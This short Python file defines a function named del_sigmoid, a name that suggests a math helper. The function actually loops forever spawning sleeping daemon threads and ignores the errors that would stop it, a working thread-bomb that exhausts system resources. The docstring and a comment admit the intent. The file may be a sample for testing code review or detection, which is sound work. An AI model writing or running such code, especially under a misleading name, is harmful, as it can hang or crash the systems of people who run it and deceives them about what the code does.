"""Starts threads without end."""
# ruff: noqa - it does what no code should

import threading
import time


def del_sigmoid(h):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
        except RuntimeError:
            pass
